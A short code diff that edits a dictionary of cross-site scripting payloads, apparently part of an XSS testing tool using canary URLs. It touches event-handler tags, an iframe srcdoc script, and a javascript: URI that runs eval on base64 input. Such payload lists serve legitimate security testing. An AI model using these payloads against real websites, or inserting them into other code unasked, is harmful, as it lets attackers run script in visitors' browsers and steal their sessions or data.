@@ -32,7 +32,7 @@ PAYLOADS = {
     "video-source": f'<video><source onerror="{FIRE}" src="x"></video>',
     "autofocus": f'<input autofocus onfocus="{FIRE}">',
     "srcdoc": f'<iframe srcdoc="<script>{FIRE}</script>"></iframe>',
-    "frame-script": "<iframe src=\"javascript:parent.eval(atob('{{}}'))\"></iframe>",
+    "frame-script": "<iframe src=\"javascript:parent.eval(atob('{}'))\"></iframe>",
     "frame": "<iframe src='CANARY/NAME'></iframe>",
     "object": "<object data='CANARY/NAME'></object>",
     "embed": "<embed src='CANARY/NAME' type='text/html'>",
